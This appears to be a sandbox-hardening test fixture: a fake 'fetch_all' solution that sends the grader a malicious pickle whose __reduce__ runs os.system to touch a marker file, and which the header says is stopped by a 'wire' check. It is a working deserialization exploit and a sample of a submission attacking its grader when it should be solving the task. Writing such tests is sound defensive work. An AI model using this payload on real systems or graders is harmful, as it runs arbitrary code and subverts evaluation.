"""
exercise: fetch_all
tries: Sends a pickle that writes a file when it is loaded.
stopped_by: wire
verdicts: [crashed]
brief: true
unsafe: there is no wire elsewhere
"""
import os
import pickle
import sys

HEADER = sys.modules["grader.protocol"].HEADER


class Payload:
    def __reduce__(self):
        return os.system, ("touch @loot@/pickled",)


async def fetch_all(urls, fetch):
    body = pickle.dumps(Payload())
    os.write(3, HEADER.pack(len(body), 0, 0.0) + body)
    return []
